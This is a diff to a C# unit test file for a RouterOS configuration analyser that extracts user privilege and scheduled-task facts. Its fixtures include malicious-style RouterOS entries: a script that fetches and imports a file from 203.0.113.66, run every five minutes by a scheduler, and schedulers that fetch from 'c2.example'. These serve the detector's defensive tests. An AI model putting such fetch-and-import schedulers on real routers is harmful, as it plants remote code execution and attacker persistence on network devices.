@@ -81,9 +81,10 @@ public sealed class RouterOsFactsTests
     {
         var facts = new RouterOsFactBuffer();
         Assert.IsNull(RouterOsAccessFacts.FromUsers(Parse(
-            "[{\"name\":\"admin\",\"group\":\"Full\",\"disabled\":\"false\",\"last-logged-in\":\"2026-11-27 03:00:00\"},{\"name\":\"old\",\"group\":\"full\",\"disabled\":\"true\"},{\"name\":\"a b=c\",\"group\":\"read\",\"disabled\":\"no\"}]"), facts));
-        CollectionAssert.AreEquivalent(new Dictionary<string, string> { ["cfg.user.admin"] = "full", ["cfg.user.a%20b%3Dc"] = "read" }.ToList(), Facts(facts).ToList());
-        Assert.IsNotNull(RouterOsAccessFacts.FromUsers(Parse("[{\"name\":\"x\"}]"), new RouterOsFactBuffer()));
+            "[{\"name\":\"admin\",\"group\":\"Full\",\"disabled\":\"false\",\"last-logged-in\":\"2026-11-27 03:00:00\"},{\"name\":\"old\",\"group\":\"full\",\"disabled\":\"true\"},{\"name\":\"a b=c\",\"group\":\"read\",\"disabled\":\"no\"}]"), null, facts));
+        // Without a group list, only "full" administers the router.
+        CollectionAssert.AreEquivalent(new Dictionary<string, string> { ["cfg.user.admin"] = "full", ["cfg.admin.admin"] = "full", ["cfg.user.a%20b%3Dc"] = "read" }.ToList(), Facts(facts).ToList());
+        Assert.IsNotNull(RouterOsAccessFacts.FromUsers(Parse("[{\"name\":\"x\"}]"), null, new RouterOsFactBuffer()));
     }
 
     [TestMethod]
@@ -166,11 +167,13 @@ public sealed class RouterOsFactsTests
         var sources = RouterOsTaskFacts.FromScripts(Parse(
             "[{\"name\":\"sys-update\",\"source\":\"/tool fetch url=\\\"http://203.0.113.66/u.rsc\\\"; /import u.rsc\"},{\"name\":\"backup\",\"source\":\"/system backup save\"}]"), facts, out var problem);
         Assert.IsNotNull(sources, problem);
+        var fetches = new System.Collections.ArrayList();
         Assert.IsNull(RouterOsTaskFacts.FromSchedulers(Parse(
             "[{\"name\":\"u\",\"interval\":\"00:05:00\",\"on-event\":\"/system script run sys-update\",\"disabled\":\"false\",\"run-count\":\"4\",\"next-run\":\"x\"}," +
             "{\"name\":\"b\",\"interval\":\"1d00:00:00\",\"on-event\":\"backup\",\"disabled\":\"false\"}," +
             "{\"name\":\"direct\",\"interval\":\"\",\"on-event\":\"/tool fetch url=https://c2.example/x\",\"disabled\":\"false\"}," +
-            "{\"name\":\"off\",\"interval\":\"1m\",\"on-event\":\"/tool fetch url=https://c2.example/x\",\"disabled\":\"true\"}]"), sources, facts));
+            "{\"name\":\"off\",\"interval\":\"1m\",\"on-event\":\"/tool fetch url=https://c2.example/x\",\"disabled\":\"true\"}]"), sources, facts, fetches));
+        RouterOsTaskFacts.AddFetches(fetches, null, facts);
         var result = Facts(facts);
         Assert.AreEqual("203.0.113.66", result["cfg.scheduler.u.fetch"]);
         Assert.AreEqual("c2.example", result["cfg.scheduler.direct.fetch"]);
